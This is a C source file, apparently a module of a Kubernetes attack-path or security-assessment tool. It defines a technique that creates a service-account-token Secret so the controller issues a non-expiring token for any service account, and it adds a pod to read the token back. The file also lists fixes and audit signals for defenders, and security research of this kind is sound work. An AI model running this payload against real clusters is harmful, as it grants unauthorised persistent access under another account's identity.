// The token controller fills any Secret of that type whose annotation names an account; nobody asks for a right on the account.
// The name is the attacker's choice, so get alone reads it back.
#include "attack/payload.h"
#include "attack/technique.h"
#include "attack/technique/build.h"

static bool body(struct payload *p)
{
	if (p->alternative == 2) { // the pod that reads the Secret back
		payload_base_pod(p);
		return true;
	}
	if (p->alternative > 0)
		return false;
	p->object = build_doc(p, "{apiVersion: 'v1', kind: 'Secret', metadata: {name: ?, namespace: ?, "
		"annotations: {'kubernetes.io/service-account.name': ?}}, type: 'kubernetes.io/service-account-token'}",
		build_name(p), build_ns(p), build_sa(p));
	return true;
}

const struct technique technique_sa_token_secret_create = {
	.id = "sa-token-secret-create",
	.title = "Have a long-lived token made for any service account",
	.kind = TECHNIQUE_PATH,
	.boundary = BOUNDARY_CONTROL_PLANE,
	.harm = HARM_CONFIDENTIALITY | HARM_INTEGRITY,
	.attack = "T1528,T1098.001",
	.matrix = "MS-TA9016,MS-TA9025",
	.needs = "create on secrets, and a way to read the result: get, list or watch on secrets, or create on pods",
	.gives = "acts as any service account of %s, with a token that does not expire",
	.fixes =
		"Remove create on secrets, or the right that reads them\n"
		"Deny Secrets of type kubernetes.io/service-account-token by admission policy\n"
		"Move the stronger service account to a namespace of the platform",
	.audit = "create of secrets of type kubernetes.io/service-account-token",
	.source = "kubernetes/kubernetes pkg/controller/serviceaccount/tokens_controller.go",
	.from = POSITION_IDENTITY,
	.effect = EFFECT_SA,
	.grant = {
		{ "create", "", "secrets" },
		{ "get|list|watch", "", "secrets", .alt = 1 },
		{ "create", "", "pods", .alt = 1 },
	},
	.body = body,
};
